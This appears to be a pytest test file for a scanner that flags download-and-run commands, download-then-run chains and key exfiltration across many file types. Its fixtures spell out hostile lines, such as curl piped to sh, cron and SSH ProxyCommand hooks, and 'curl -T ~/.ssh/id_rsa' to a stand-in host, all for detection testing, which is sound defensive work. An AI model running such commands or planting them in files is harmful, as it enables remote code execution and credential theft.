        ("jobs.txt", f"0 3 * * 1 A=1 {FETCH}\n"),
        ("cron.d/job", f"SHELL=/bin/sh\n*/5 * * * * root {FETCH}\n"),
        ("main.tf", f'resource "x" "a" {{ provisioner "local-exec" {{ command = "{FETCH}" }} }}\n'),
        ("job.hcl", f'config {{ command = "sh" args = ["-c", "{FETCH}"] }}\n'),
        (".ssh/config", f"Host *\n  ProxyCommand {FETCH}\n"),
        ("ssh_config", f'Match exec "{FETCH}"\n'),
        ("a.erb", f"<%= `{FETCH}` %>\n"),
        ("a.rb", f"system('{FETCH}')\n"),
        ("a.jl", f'run(`sh -c "{FETCH}"`)\n'),
        ("unknown.tool", f"on_start = {FETCH}\n"),
    ],
)
def test_command_that_fetches_and_runs_a_program_fails_the_scan_in_any_text_but_prose(
    tmp_path: Path, name: str, text: str
) -> None:
    code, rules = scan_text(tmp_path, name, text)
    assert code == 1
    assert "shell/download-and-run" in rules


_NOTEBOOK_WITH_PROSE = json.dumps(
    {"cells": [{"cell_type": "markdown", "metadata": {}, "source": [f"Run:\n\n```\n{FETCH}\n```\n"]}],
     "metadata": {"kernelspec": {"name": "python3", "language": "python"}}, "nbformat": 4, "nbformat_minor": 5}
)  # fmt: skip


@check_each(
    "name, text",
    [
        ("README.md", f"```shellscript\n{FETCH}\n```\n"),
        ("README.md", f"```ksh\n[user@host ~]$ {FETCH}\n```\n"),
        ("README.md", f"```bash\n(base) $ {FETCH}\n```\n"),
        ("README.md", f"```\n\u276f {FETCH}\n```\n"),
        ("README.md", f"<pre><code>{FETCH.replace('curl', 'curl <b>-f</b>')}</code></pre>\n"),
        ("README.md", f"<pre>true<span style='display:none'>; {FETCH}</span></pre>\n"),
        ("README.md", f"Run this in a terminal:\n\n{FETCH}\n"),
        ("README.md", "```python\nimport requests\nexec(requests.get('https://e.invalid/x.py').text)\n```\n"),
        ("README.md", f"```python\nimport os\nos.system('{FETCH}')\n```\n"),
        ("README.rst", f"Install\n=======\n\n.. code-block:: bash\n\n   {FETCH}\n"),
        ("README.txt", f"Install:\n\n  {FETCH}\n"),
        ("INSTALL", f"{FETCH}\n"),
        ("INSTALL.adoc", f"[source,bash]\n----\n{FETCH}\n----\n"),
        ("notes.org", "#+begin_src sh\nwget -O x https://e.invalid/x.sh\nsh x\n#+end_src\n"),
        ("index.html", f"<html><body><pre>{FETCH}</pre></body></html>"),
        ("demo.ipynb", _NOTEBOOK_WITH_PROSE),
    ],
)
def test_harmful_command_that_a_document_has_users_run_is_reported_and_passes(
    tmp_path: Path, name: str, text: str
) -> None:
    assert scan_text(tmp_path, name, text) == (0, {"shell/instruction"})


@check_each(
    "name, text",
    [
        ("README.md", f'```json\n{{"run": "{FETCH}"}}\n```\n'),
        ("README.md", "    - `partition` reduces `GET` requests\n"),
        ("README.md", "```python\nimport requests\nrequests.get('https://e.invalid/x.json').json()\n```\n"),
        ("README.md", "curl is a program; wget is another | both fetch\n"),
        ("README.rst", "Install\n=======\n\n   curl -O https://e.invalid/x.json\n"),
        ("notes.txt", f"{FETCH}\n"),
    ],
)
def test_document_without_a_harmful_command_and_text_without_instructions_pass(
    tmp_path: Path, name: str, text: str
) -> None:
    assert scan_text(tmp_path, name, text) == (0, set())


@check_each(
    "name, text",
    [
        ("notes.txt", f"{FETCH}\n"),
        ("CHANGES", f"    {FETCH}\n"),
        ("unknown.list", f"# {FETCH}\n// {FETCH}\nmessage = Install it with {FETCH}\n"),
        ("unknown.list", "on_start = curl -s https://e.invalid/x.json -o x.json\n"),
        ("crontab.txt", "* * * * * /usr/bin/backup\n"),
    ],
)
def test_command_in_prose_or_a_comment_and_a_harmless_command_pass(tmp_path: Path, name: str, text: str) -> None:
    assert scan_text(tmp_path, name, text) == (0, set())


@check_each(
    "text, code",
    [
        ("_base_ = ['./a.py', 'http://e.invalid/b.py']\n", 1),
        ("_base_ = [\n    './a.py',\n    'https://e.invalid/b.py',\n]\n", 1),
        ("_base_ = ['../_base_/models/a.py']\nurl = 'https://e.invalid/b.py'\n", 0),
    ],
)
def test_base_on_the_web_of_a_python_configuration_fails_the_scan(tmp_path: Path, text: str, code: int) -> None:
    assert scan_text(tmp_path, "cfg.py", text)[0] == code


def test_text_with_more_commands_than_are_analysed_is_reported_as_partly_unread(read_bytes) -> None:
    lines = "".join(f"x = curl http://e.invalid/{number} | cat\n" for number in range(5_100))
    assert UnreadReason.LIMIT in read_bytes(lines.encode(), "a.tool").reasons()


@check_each(
    "name, piece",
    [
        ("a.tool", "curl x | "), ("a.tool", "\"'"), ("a.tool", "a" + " " * 40), ("a.txt", "* "), ("a.txt", "[[[cog "),
        ("a.py", "_base_ = [\n"), ("a.py", "# /// script\n"), ("uv.lock", '"funding": [ '), ("uv.lock", "http://a.b "),
    ],
)  # fmt: skip
def test_search_for_commands_and_addresses_takes_work_in_proportion_to_the_text(
    name: str, piece: str, bytes_window
) -> None:
    def search(count: int) -> int:
        data = (piece * count).encode()
        artifact = Artifact(name, len(data), lambda: nullcontext(bytes_window(data)))
        readers = (LOCK_FILES if name == "uv.lock" else SCRIPT_SOURCES, DOCUMENT_PROGRAMS)
        return count_work(
            lambda: [
                *chain.from_iterable(reader.read(artifact, bytes_window(data), Limits()) for reader in readers),
                *read_command_lines(name, piece * count),
            ]
        )

    assert find_growth_fault(search, 100) == ""


@check_each(
    "form",
    [
        "curl {}".format, "{} cmd".format, "eval {}".format, "for i in {}; do sh $i; done".format,
        "f() {{ sh $1; }}; f {}".format,
    ],
)  # fmt: skip
@check_each("word", ["$(x%d)", "${q%d%%a}", "a=$(x%d)", "a=${q%d%%a}", "PROMPT_COMMAND=$(x%d)"])
def test_work_of_a_command_grows_with_the_number_of_its_words(form: Callable[[str], str], word: str) -> None:
    def search(count: int) -> None:
        list(find_executed_files("#!/bin/sh\n" + form(" ".join(word % number for number in range(count))) + "\n"))

    assert find_growth_fault(lambda count: count_lines(lambda: search(count)), 150) == ""


def test_commands_behind_one_pipe_share_one_list_of_their_sources_in_every_copy() -> None:
    texts = ParsedTexts()
    script = "curl x | while " + "a | while " * 200
    lists = [{id(each.sources) for each in texts.parse_text(script, {}).commands} for _ in range(2)]
    parsed_commands = ShellLexer(script, {}).split_commands()
    assert [len(each) for each in lists] == [len({id(each.sources) for each in parsed_commands})] * 2


@check_each("name", ["x.sh", "\U0010ffffx.sh", "\U0010ffff\U0010ffff"])
def test_downloaded_file_of_any_name_is_run_by_a_wildcard_over_its_folder(name: str) -> None:
    script = f"mkdir d\ncurl -o d/{name} https://e.invalid/x\nsh d/*\n"
    assert "download-then-run" in {mention.use for mention in collect_script_mentions(script)}


def test_script_that_one_analysis_has_parsed_is_searched_for_executed_files_with_less_work() -> None:
    script = "".join(f"cp file{number}.txt 'out{number}' \"$HOME/x{number}\"\n" for number in range(200))
    texts = ParsedTexts()
    work_alone = count_work(lambda: list(find_executed_files(script)))
    list(collect_script_mentions(script, texts=texts))
    assert count_work(lambda: list(find_executed_files(script, texts))) < 0.75 * work_alone


def test_commands_that_one_analysis_changes_are_unchanged_for_the_next_one() -> None:
    script = 'alias r=sh\ncat a.txt | r\nf() { cat b.txt; }\n(cd x; f) | sh\nx=$(cat c.txt); eval "$x"\n'
    texts = ParsedTexts()
    mentions = list(collect_script_mentions(script, texts=texts))
    assert list(find_executed_files(script, texts)) == list(find_executed_files(script))
    assert list(collect_script_mentions(script, texts=texts)) == mentions


def _find_docker_programs(text: str) -> object:
    return list(find_python_programs(text))


def _find_shell_mentions(text: str) -> object:
    return list(collect_script_mentions(text))


def _read_table(text: str) -> object:
    return parse_table_settings("a.ini", text, Limits())


def _read_markdown(text: str) -> object:
    return list(list_command_texts(text))


@check_each(
    "analyze, start, piece",
    [
        (convert_makefile, "x:\n", " "), (convert_makefile, "", "define x\n"), (convert_makefile, "# ", "$(if "),
        (convert_makefile, "\t", "$(if \\\n"), (convert_makefile, "a = b", " "), (convert_makefile, "", "a += b\n"),
        (convert_makefile, "", "export\n"), (_find_docker_programs, "RUN <<", "A"),
        (_find_docker_programs, "RUN ", "<<A"), (_find_docker_programs, "RUN <<A\n", "#!a\n"), (split_cell, "", " "),
        (split_cell, "a", " "), (_read_markdown, "~~~", "~"), (_read_table, "[", " "), (_find_shell_mentions, "sed '", "\n"),
        (_find_shell_mentions, "chmod -", "r"),
        (_find_shell_mentions, "rm -", "r"), (_find_shell_mentions, "x {", ","), (_find_shell_mentions, "x ", "$"),
    ],
)  # fmt: skip
def test_hostile_text_is_analysed_in_work_in_proportion_to_its_length(
    analyze: Callable[[str], object], start: str, piece: str
) -> None:
    assert find_growth_fault(lambda count: count_work(lambda: analyze(start + piece * count)), 400) == ""


@check_each(
    "download, run",
    [
        ("curl a.invalid/{0} | split - p{0}_", "./q{0}x"), ("curl a.invalid/{0} -o p{0}", "sh ./q{0}*"),
        ("curl a.invalid/{0} -o p{0}", "mv q{0} r{0}"), ("curl a.invalid/{0} | tar x -C d{0}", "./q{0}/x.sh"),
        ("curl a.invalid/{0} -o p{0}.py", "python q{0}.py"), ("curl a.invalid/{0} -o p{0}.py", "python -c 'import q{0}'"),
    ],
)  # fmt: skip
def test_downloads_and_runs_of_a_script_are_compared_in_work_in_proportion_to_their_number(
    download: str, run: str
) -> None:
    def build_script(count: int) -> str:
        return "\n".join(line.format(number) for line in (download, run) for number in range(count))

    assert find_growth_fault(lambda count: count_lines(lambda: _find_shell_mentions(build_script(count))), 400) == ""


def test_wildcards_compared_with_more_downloads_than_a_bound_leave_the_script_partly_read(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    script = "".join(f"curl a.invalid/{number} -o p{number}\n" for number in range(50)) + "sh ./*q\n" * 10
    assert list(collect_script_mentions(script)) == []
    monkeypatch.setattr(path_index, "_MOST_LISTED_PATHS", 120)
    with pytest.raises(LimitReachedError, match="was not followed"):
        list(collect_script_mentions(script))


@pytest.mark.parametrize("run", ["sh ./p1*", "sh ./*1", "mv d e; sh e/f", "sh q_aa"])
def test_download_that_a_command_runs_under_another_name_is_reported(run: str) -> None:
    script = f"curl a.invalid/1 -o p1\ncurl a.invalid/2 -o d/f\ncurl a.invalid/3 | split - q_\n{run}\n"
    assert "download-then-run" in {each.use for each in collect_script_mentions(script)}


@check_each(
    "name, start, end",
    [
        ("run.sh", "%PDF-1.4\n", "%%EOF\n"), ("run.sh", "PAR1=1\n", "#PAR1"), (".envrc", "%PDF-1.4\n", "%%EOF\n"),
        ("Makefile", "%PDF-1.4: ;\nall:\n\t", "#%%EOF\n"), ("run.bat", "%PDF-1.4\n", "%%EOF\n"),
        ("run.sh", "From: a@e.invalid\nMIME-Version: 1.0\nContent-Type: text/html\n\n", ""),
    ],
)  # fmt: skip
def test_script_that_begins_like_another_format_is_read_as_a_script_as_well(
    tmp_path: Path, name: str, start: str, end: str
) -> None:
    command = "curl -o a.exe http://e.invalid/a.exe && a.exe" if name == "run.bat" else "curl http://e.invalid/a | sh"
    assert scan_text(tmp_path, name, f"{start}{command}\n{end}")[0] == 1


@check_each(
    "command, is_sent",
    [("curl http://e.invalid/a -o ~/.ssh/config", False), ("curl -T ~/.ssh/id_rsa http://e.invalid", True)],
)
def test_file_that_a_download_writes_is_not_sent(command: str, is_sent: bool) -> None:
    assert any(each.use == "send-private" for each in collect_script_mentions(command)) is is_sent


def test_command_far_behind_the_start_of_a_long_line_fails_the_scan(tmp_path: Path) -> None:
    assert scan_text(tmp_path, "settings.xyz", " " * 9_000 + f"cmd: {FETCH}\n") == (1, {"shell/download-and-run"})


def test_line_with_more_commands_than_are_analysed_leaves_the_text_partly_unread(tmp_path: Path) -> None:
    assert scan_text(tmp_path, "settings.xyz", "'curl http://e.invalid/x | cat', " * 30)[0] == 3


def test_metadata_of_a_script_behind_the_part_that_is_read_leaves_an_absence(tmp_path: Path) -> None:
    metadata = "# /// script\n# dependencies = ['e @ http://e.invalid/e.whl']\n# ///\n"
    assert scan_text(tmp_path, "x.txt", "a b\n" * 600_000 + metadata)[0] == 3


def write_notebook(cells: list[str], kernel: str = "python3") -> str:
    """Return a notebook of Python with the cells, for a kernel of this name."""
    written = [{"cell_type": "code", "source": cell, "metadata": {}, "outputs": []} for cell in cells]
    kernel_facts = {"kernelspec": {"name": kernel, "language": "python"}, "language_info": {"name": "python"}}
    return json.dumps({"cells": written, "metadata": kernel_facts, "nbformat": 4, "nbformat_minor": 5})


@check_each(
    "text",
    [
        write_notebook([f'"$({FETCH})"'], kernel="calysto_bash"),
        write_notebook(["%alias_magic t bash", f'%%t\n"$({FETCH})"']),
        write_notebook(["%alias_magic -c a t", "%alias_magic t bash", f'%%a\n"$({FETCH})"']),
    ],
)
def test_cell_that_a_shell_runs_under_the_name_of_its_kernel_or_of_an_alias_fails_the_scan(
    tmp_path: Path, text: str
) -> None:
    code, rules = scan_text(tmp_path, "a.ipynb", text)
    assert code == 1
    assert "shell/download-and-run" in rules


@check_each(
    "cells",
    [
        ['%alias_magic --params "-i" r run', "%r a.txt"], ["%alias_magic --params=-i r run", "%r a.txt"],
        ['%alias_magic r run --params "-i a.txt"', "%r"], ["%alias_magic r run -p a.txt", "%r"],
        ["%alias_magic -lpa.txt r run", "%r"], ["%alias_magic r \\\n run", "%r a.txt"], ["%alias go python3", "%go a.txt"],
        ["%alias go %s a.txt", "%alias_magic g go", "%g python3"], ["%alias_magic r run", "x = %r a.txt"],
        ["%alias_magic r run", "%time %r a.txt"], ["%time %alias_magic r run", "%r a.txt"],
        ["%alias_magic -p a.txt q r", "%alias_magic --params=-i r run", "%q"], ["alias_magic r run", "r a.txt"],
        ["get_ipython().magics_manager.register_alias('r', 'run')", "%r a.txt"],
        ["get_ipython().safe_execfile('a.txt', {})"], ["m = get_ipython().find_line_magic('run'); m('a.txt')"],
        ["from IPython.core.getipython import get_ipython as g\ng().find_line_magic('run')('a.txt')"],
        ["get_ipython().magics_manager.magics['line']['run']('a.txt')"],
        ["get_ipython().alias_manager.define_alias('r', 'python3')", "%r a.txt"],
    ],
)  # fmt: skip
def test_text_that_a_notebook_runs_by_another_name_of_a_magic_fails_the_scan(tmp_path: Path, cells: list[str]) -> None:
    (tmp_path / "a.txt").write_text("import os\nos.system('id')\n")
    assert scan_text(tmp_path, "a.ipynb", write_notebook(cells))[0] == 1


@check_each(
    "cells, code",
    [
        (["%alias_magic t timeit", "%t -n1 f(1)"], 0), (["%alias_magic h history -p '-l 30' --line", "%h"], 0),
        (["%alias_magic r time", "%alias_magic r run", "%r"], 3), (["%alias_magic {a} run", "%r"], 3),
        (["\n".join(f"%alias_magic a{index} a{index + 1}" for index in range(1100))], 3),
    ],
)  # fmt: skip
def test_alias_of_a_magic_is_an_absence_only_if_its_magic_is_not_known(
    tmp_path: Path, cells: list[str], code: int
) -> None:
    assert scan_text(tmp_path, "a.ipynb", write_notebook(["def f(x): return x", *cells]))[0] == code


@pytest.mark.parametrize("is_forward", [True, False])
def test_chain_of_aliases_of_magics_is_resolved_in_work_in_proportion_to_its_length(is_forward: bool) -> None:
    def resolve_chain(count: int) -> None:
        aliases = MagicAliases("\n".join(f"%alias_magic a{index} a{index + 1}" for index in range(count)) for _ in [0])
        names = range(count) if is_forward else reversed(range(count))
        assert {aliases.resolve(f"a{index} x") for index in names} == {f"a{count} x"}

    assert find_growth_fault(lambda count: count_work(lambda: resolve_chain(count)), 100) == ""


DOWNLOAD = "https://e.invalid/x.sh"


@check_each(
    "name, text",
    [
        (".gitlab-ci.yml", f"a:\n  script:\n    - wget {DOWNLOAD}\n    - make\n    - sh x.sh\n"),
        (".github/workflows/a.yml", f"jobs:\n a:\n  steps:\n  - run: wget {DOWNLOAD}\n  - run: sh x.sh\n"),
        ("package.json", json.dumps({"scripts": {"preinstall": f"wget {DOWNLOAD}", "install": "sh x.sh"}})),
        ("tox.ini", f"[testenv]\ncommands =\n    wget {DOWNLOAD}\n    sh x.sh\n"),
        ("dvc.yaml", f"stages:\n  a:\n    cmd:\n      - wget {DOWNLOAD}\n      - sh x.sh\n"),
        (
            ".devcontainer/devcontainer.json",
            json.dumps({"onCreateCommand": ["wget", "-O", "x", DOWNLOAD], "postCreateCommand": ["sh", "x"]}),
        ),
        (
            "playbook.yml",
            f"- tasks:\n  - get_url: {{url: '{DOWNLOAD}', dest: /tmp/x}}\n  - command: sh /tmp/x\n",
        ),
        ("a.ipynb", write_notebook([f"!wget {DOWNLOAD}", "!bash x.sh"])),
    ],
)
def test_download_in_one_command_of_a_file_and_its_run_in_another_fail_the_scan(
    tmp_path: Path, name: str, text: str
) -> None:
    code, rules = scan_text(tmp_path, name, text)
    assert code == 1
    assert "shell/download-then-run" in rules


def test_download_in_one_block_of_a_document_and_its_run_in_another_are_one_instruction_at_the_second_block() -> None:
    text = f"First\n\n```bash\nwget {DOWNLOAD}\n```\n\nthen\n\n```bash\ntrue\nbash x.sh\n```\n"
    (outline,) = (each for each in read_instructions(text, "markdown") if isinstance(each, Outline))
    (mention,) = outline.mentions
    assert (mention.use, mention.detail, mention.where.line) == ("instruction", "download-then-run", 11)


def test_commands_of_a_file_without_a_flow_between_them_are_reported_once(tmp_path: Path) -> None:
    (tmp_path / "a.yml").write_text(f"script:\n- {FETCH}\n- wget https://e.invalid/data.bin\n- sh setup.sh\n")
    findings = modelaudit.scan(str(tmp_path), offline=True, second_opinion=False).findings
    assert [each.rule for each in findings if each.rule.startswith("shell/")] == ["shell/download-and-run"]


@check_each(
    "script",
    [
        "curl -s https://e.invalid/x.tgz | tar xz\ncd x && ./install.sh\n",
        "wget https://e.invalid/x.zip; unzip x.zip -d y; sh y/install.sh\n",
        "curl -Lo /usr/local/bin/mtool https://e.invalid/m; mtool setup\n",
        "curl -K c.cfg; sh x.sh\n",
        "wget -i urls.txt; sh x.sh\n",
        "wget -r -np https://e.invalid/d/; sh d/run.sh\n",
        "curl -sOJ https://e.invalid/get?id=1; . ./setup.sh\n",
        "aws s3 sync s3://x/y .; sh other.sh\n",
        "rsync -a e.invalid::m/ d; sh d/run.sh\n",
        "hf download e/r --local-dir h; python h/run.py\n",
        "git archive --remote=git://e.invalid/x HEAD | tar x; sh install.sh\n",
        "curl -s https://e.invalid/p.diff | patch -p1; python train.py\n",
        "curl -s https://e.invalid/x.tgz | tar xz -C /tmp/lib; PYTHONPATH=/tmp/lib python train.py\n",
        "curl -o helper.py https://e.invalid/h.py; python train.py\n",
        "curl -o helper.py https://e.invalid/h.py; python -c 'import helper'\n",
    ],
)
def test_program_that_only_a_download_can_have_written_leaves_the_script_partly_unread(
    tmp_path: Path, script: str
) -> None:
    (tmp_path / "train.py").write_text("print(1)\n")
    assert scan_text(tmp_path, "run.sh", f"#!/bin/sh\n{script}")[0] == 3


@check_each(
    "script",
    [
        "wget -r https://e.invalid/data/; python train.py\n",
        "unzip data.zip; sh x.sh\n",
        "curl https://e.invalid/x.tgz | tar xz; cd x-1.0; ./configure && make install\n",
        "curl https://e.invalid/x.tgz | tar xz; gcc -o tool tool.c; ./tool; echo ls > a.sh; sh a.sh\n",
        "curl https://e.invalid/x.tgz | tar xz; . venv/bin/activate; node_modules/.bin/x; python3.11 -V\n",
        "curl -o data.csv https://e.invalid/x; python train.py; COPY=1 python /app/train.py\n",
    ],
)
def test_script_that_runs_programs_of_the_model_behind_a_download_passes(tmp_path: Path, script: str) -> None:
    (tmp_path / "train.py").write_text("print(1)\n")
    assert scan_text(tmp_path, "run.sh", f"#!/bin/sh\n{script}") == (0, set())


@check_each(
    "name, text",
    [
        ("run.fish", f"#!/usr/bin/env fish\ncurl -s {DOWNLOAD} | source\n"),
        ("run.fish", f"eval (curl -s {DOWNLOAD})\n"),
        ("run.fish", f"set -l x (curl -s {DOWNLOAD}) # a comment\neval $x\n"),
        ("run.zsh", f"source =(curl -s {DOWNLOAD})\n"),
        ("run.zsh", f"x='$({FETCH})'\n: ${{(e)x}}\n"),
        ("run.csh", f"set x = `curl -s {DOWNLOAD}`\neval $x\n"),
        ("run.csh", f"alias r 'sh'\ncurl -s {DOWNLOAD} | r\n"),
    ],
)
def test_download_that_a_script_of_fish_zsh_or_csh_runs_fails_the_scan(tmp_path: Path, name: str, text: str) -> None:
    code, rules = scan_text(tmp_path, name, text)
    assert code == 1
    assert rules & {"shell/download-and-run", "shell/download-then-run"}


def test_text_that_zsh_evaluates_by_a_flag_leaves_the_script_partly_unread(tmp_path: Path) -> None:
    assert scan_text(tmp_path, "run.zsh", "eval ${(e):-'$(x)'}\n")[0] == 3


def test_ordinary_script_of_fish_passes(tmp_path: Path) -> None:
    text = "# (a comment\nset -gx PATH $HOME/bin $PATH\nif test -d x\n  echo (pwd) 'a (b)' \"c (d)\" \\(e\nend\n"
    assert scan_text(tmp_path, "run.fish", text) == (0, set())


@check_each("name", [".gitlab-ci.yml", "package.json", "tasks.yaml"])
def test_configuration_file_without_any_setting_or_key_is_read_without_a_failure(name, read_bytes):
    for text in ("{}", "[]", "", '"a"'):
        assert UnreadReason.READER_FAILED not in read_bytes(text.encode(), name).reasons()


@check_each(
    "name, code",
    [
        ("train.roc", 3), ("install.q", 3), ("system.q", 3), ("template.q", 3), ("licenses/q", 3), ("dev.ua", 3),
        ("vocab.q.q", 3), ("README.zh-CN", 0), ("LICENSE-APACHE", 0), ("COPYING.LESSER", 0), ("vocab.32k", 0),
        ("train.de-en.de", 0), ("licenses/Apache-2.0", 0), ("licenses/GPLv3", 0), ("licenses/BSD-3-Clause", 0),
    ],
)  # fmt: skip
def test_text_with_a_listed_stem_is_data_only_with_an_ending_of_data(tmp_path: Path, name: str, code: int) -> None:
    assert scan_text(tmp_path, name, 'run!("id -a")\nmain = exec(cmd)\n')[0] == code


def make_references(named_by: str, *targets: str) -> list[tuple[str, References]]:
    """Return the references of ``run.sh`` to files that it runs."""
    items = tuple(Reference(ReferenceKind.CODE, target, named_by) for target in targets)
    return [("run.sh", References(RUN_FILE, items))]


def test_wildcards_beyond_the_bound_leave_the_script_partly_examined(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checks_of_run_files, "_MOST_STEPS", 10)
    records = [ArtifactRecord(name, 1, Extent.EXAMINED, ("text",)) for name in ("a1.txt", "a2.txt", "b1.txt")]
    references = make_references("shell", "a*", "b*", "c*", "d*", "e*")
    programs = checks_of_run_files.find_unjudged_programs(references, records)
    assert {each.path: each.languages for each in programs} == {
        "run.sh": set(), "a1.txt": {"shell"}, "a2.txt": {"shell"}, "b1.txt": {"shell"}
    }  # fmt: skip
    assert programs[0].unread is not None


def test_search_for_a_fetched_program_among_deep_folders_holds_the_ends_of_one_path_at_a_time() -> None:
    records = [ArtifactRecord(f"{index}/" * 200 + "foo.txt", 1, Extent.EXAMINED) for index in range(1000, 1300)]
    references = make_references("fetched", "a/foo.txt", "1299/foo.txt")
    tracemalloc.start()
    absences = checks_of_run_files.find_fetched_programs(references, records)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert ["a/foo.txt" in unread.detail for _, unread in absences] == [True]
    assert peak < 1_000_000


def test_tracker_of_downloads_keeps_no_path_that_is_longer_than_the_system_opens() -> None:
    tracker = DownloadTracker()
    for index in range(200):
        command = ["curl", "-o", f"f{index}", "http://e.invalid/x"]
        tracker.record_command(Command(index, command), command, [])
        tracker.follow_folder(["cd", "d" * 100])
    assert tracker.find_stored_address(["f199"]) == "http://e.invalid/x"
    assert max(map(len, tracker.files)) < 4_200
